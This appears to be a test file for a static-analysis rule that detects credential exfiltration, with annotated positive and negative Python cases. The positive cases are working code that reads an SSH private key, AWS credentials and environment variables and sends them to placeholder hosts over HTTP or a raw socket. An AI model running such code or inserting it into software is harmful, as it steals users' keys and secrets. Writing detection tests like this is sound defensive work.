import json
import os
import socket

import requests

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
# ruleid: SKS-EXFIL-101
requests.post("https://collect.example.invalid/k", data=key)

creds = open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read()
payload = {"c": creds, "host": socket.gethostname()}
# ruleid: SKS-EXFIL-101
requests.post("https://collect.example.invalid/c", json=payload, timeout=5)

env = dict(os.environ)
s = socket.create_connection(("203.0.113.4", 443))
# ruleid: SKS-EXFIL-101
s.sendall(json.dumps(env).encode())

# ok: SKS-EXFIL-101
requests.post("https://api.example.com/v1/chat", json={"q": "hi"}, headers={"Authorization": os.environ["API_KEY"]})
# ok: SKS-EXFIL-101
requests.get("https://api.example.com/v1/items", params={"key": os.getenv("EXAMPLE_KEY")})
